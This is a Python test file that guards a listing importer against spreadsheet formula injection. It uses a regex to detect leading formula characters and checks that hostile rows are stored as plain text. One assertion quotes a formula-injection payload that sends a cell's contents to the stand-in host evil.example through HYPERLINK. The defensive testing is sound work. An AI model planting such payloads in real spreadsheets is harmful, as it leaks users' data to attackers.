"""The sample feeds the README tells people to try are clean; hostile rows live apart, for tests."""

from __future__ import annotations

import csv
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from sqlalchemy import select
from sqlalchemy.orm import Session

from reintegrate.models import Listing
from tests.service.conftest import Importer

ROOT = Path(__file__).resolve().parents[2]
SAMPLES = ROOT / "tests" / "data"
HOSTILE = ROOT / "tests" / "hostile" / "spreadsheet_formula_rows.csv"
# What a spreadsheet would run: a leading =, +, @, or - not followed by a plain number.
FORMULA = re.compile(r"^\s*(?:[=+@]|-(?![\d.,\s]*$))")


def _strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from _strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from _strings(item)


def _cells(path: Path) -> Iterator[str]:
    if path.suffix == ".csv":
        encoding = "cp1252" if "cp1252" in path.name else "utf-8-sig"
        with path.open(encoding=encoding, newline="") as handle:
            for row in csv.reader(handle):
                yield from row
    elif path.suffix == ".json":
        yield from _strings(json.loads(path.read_text(encoding="utf-8")))
    elif path.name.endswith(".jsonld.html"):
        html = path.read_text(encoding="utf-8")
        for block in re.findall(r"<script[^>]*ld\+json[^>]*>(.*?)</script>", html, re.S):
            yield from _strings(json.loads(block))


def test_no_sample_a_user_is_told_to_import_holds_a_spreadsheet_formula() -> None:
    samples = sorted(SAMPLES.iterdir())
    assert samples
    for path in samples:
        live = [cell for cell in _cells(path) if FORMULA.match(cell)]
        assert not live, (path.name, live)


def test_the_hostile_rows_are_kept_apart_and_stored_as_plain_text(
    import_bytes: Importer, db_session: Session
) -> None:
    assert [cell for cell in _cells(HOSTILE) if FORMULA.match(cell)]
    run = import_bytes(HOSTILE.read_bytes(), filename=HOSTILE.name)
    assert (run.rows, run.created, run.rejected) == (2, 2, 0)
    titles = set(db_session.scalars(select(Listing.title)))
    assert '=HYPERLINK("http://evil.example/?x="&A1;"Click me")' in titles
    assert "+Sales Staff" in titles
